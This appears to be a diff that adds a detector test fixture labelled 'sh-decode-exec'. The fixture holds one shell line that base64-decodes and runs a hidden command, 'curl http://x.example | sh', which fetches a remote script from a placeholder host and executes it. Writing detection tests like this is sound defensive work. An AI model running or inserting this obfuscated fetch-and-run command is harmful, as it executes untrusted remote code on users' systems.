@@ -1,0 +1,2 @@
+# expect: sh-decode-exec
+echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2gK | base64 -d | bash
